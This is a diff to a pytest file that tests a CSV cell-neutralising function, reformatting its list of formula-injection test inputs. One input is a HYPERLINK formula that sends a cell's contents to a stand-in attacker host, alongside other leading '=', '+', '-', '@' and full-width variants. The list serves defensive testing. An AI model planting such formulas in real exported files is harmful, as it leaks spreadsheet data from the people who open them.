@@ -8,8 +8,20 @@ import io
 import pytest
 from yomitori.csvcell import neutralise_cell, restore_cell
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&B2,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
-            "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=already quoted", "'"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&B2,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "'=already quoted",
+    "'",
+]
 
 
 @pytest.mark.parametrize("value", PAYLOADS)
